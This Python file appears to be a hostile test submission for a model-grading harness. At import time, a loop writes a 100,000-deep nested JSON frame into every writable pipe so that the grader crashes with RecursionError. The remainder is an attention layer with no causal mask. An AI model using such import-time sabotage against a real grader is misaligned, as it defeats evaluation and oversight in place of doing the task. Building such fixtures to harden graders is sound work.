"""Hostile: before the grader asks anything, writes a frame of JSON nested 100,000 deep ("[[[...]]]")
into every pipe it may write to, so that a grader that json.loads what comes first dies of
RecursionError; honest score: 2 (no causal mask)."""
import fcntl
import os
import stat
import struct

import torch
from torch import nn

import toolkit

NESTED = b"[" * 100_000 + b"]" * 100_000
for fd in range(3, 1024):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
            os.write(fd, struct.pack(">Q", len(NESTED)) + NESTED)
    except OSError:
        pass


class Attention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.nh = config.n_head
        self.c_attn = nn.Linear(config.n_embd, 3 * config.n_embd)
        self.c_proj = nn.Linear(config.n_embd, config.n_embd)

    def forward(self, x):
        B, T, C = x.shape
        q, k, v = self.c_attn(x).reshape(B, T, 3, self.nh, C // self.nh).unbind(dim=2)
        scores = torch.einsum("bthd,bshd->bhts", q, k) * (C // self.nh) ** -0.5
        weights = scores.softmax(dim=-1)  # no causal mask
        return self.c_proj(torch.einsum("bhts,bshd->bthd", weights, v).reshape(B, T, C))


@toolkit.hookimpl
def toolkit_attention(config):
    return Attention(config)
